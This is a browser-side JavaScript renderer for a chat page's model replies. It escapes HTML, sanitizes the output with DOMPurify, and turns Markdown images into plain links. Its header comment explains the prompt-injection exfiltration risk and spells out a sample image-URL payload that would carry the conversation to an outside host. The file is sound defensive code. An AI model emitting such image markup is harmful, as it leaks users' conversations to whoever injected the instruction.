// Model output as Markdown, for the chat page's replies and the coach panel's advice alike.
// markdown-it with `html: false` escapes any HTML in the text instead of passing it on, and its
// link check refuses `javascript:`, `vbscript:`, `file:` and `data:` URLs; DOMPurify then cleans
// what it made anyway, so one library's bug is not enough to run a model's (or a prompt
// injector's) markup on the page. An image is never fetched: it becomes a link to it, because
// loading `![x](https://anywhere/p.gif?d=<the conversation>)` as it renders would hand the
// conversation to whoever got that text into the model's context (the page's CSP refuses such
// an image too: `img-src 'self' data:`).
(() => {
  'use strict';
  if (window.StreamchatMarkdown || !window.markdownit || !window.DOMPurify) return;

  const md = window.markdownit({ html: false, linkify: true, breaks: true });
  md.renderer.rules.image = (tokens, idx, options, env, self) => {
    const token = tokens[idx];
    const src = token.attrGet('src') || '';
    const alt = self.renderInlineAsText(token.children || [], options, env) || src;
    const esc = md.utils.escapeHtml;
    return `<a href="${esc(src)}" data-image-link="">${esc(`Image: ${alt}`)}</a>`;
  };

  const purify = window.DOMPurify;
  purify.addHook('afterSanitizeAttributes', (node) => {
    if (node.tagName === 'A') {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer');
    }
  });
  // Nothing that fetches by itself, whatever slipped past the image rule.
  const CONFIG = {
    RETURN_DOM_FRAGMENT: true,
    FORBID_TAGS: ['img', 'picture', 'source', 'video', 'audio', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'form'],
    FORBID_ATTR: ['style', 'srcset', 'background', 'poster'],
  };

  // A Copy button on a code block, beside it rather than over its lines.
  function addCopyButton(pre) {
    const code = pre.textContent;
    const button = document.createElement('button');
    button.type = 'button';
    button.className = 'code-copy';
    button.dataset.testid = 'copy-code';
    button.textContent = 'Copy';
    button.setAttribute('aria-label', 'Copy code');
    button.addEventListener('click', () => copyText(code, button));
    const bar = document.createElement('div');
    bar.className = 'code-bar';
    bar.append(button);
    // A keyboard reaches a long line's end too: the block scrolls on its own.
    pre.tabIndex = 0;
    const block = document.createElement('div');
    block.className = 'code-block';
    pre.replaceWith(block);
    block.append(bar, pre);
  }

  // Copies `text`; the button says how it went (no clipboard on an http page but localhost).
  async function copyText(text, button) {
    const label = button.textContent;
    try {
      await navigator.clipboard.writeText(text);
      button.textContent = 'Copied';
    } catch {
      button.textContent = 'Copy failed';
    }
    setTimeout(() => { button.textContent = label; }, 2000);
  }

  function render(text) {
    const html = purify.sanitize(md.render(text || ''), CONFIG);
    for (const pre of html.querySelectorAll('pre')) addCopyButton(pre);
    for (const table of html.querySelectorAll('table')) table.tabIndex = 0; // it scrolls when wide
    return html;
  }

  window.StreamchatMarkdown = { render, copyText };
})();
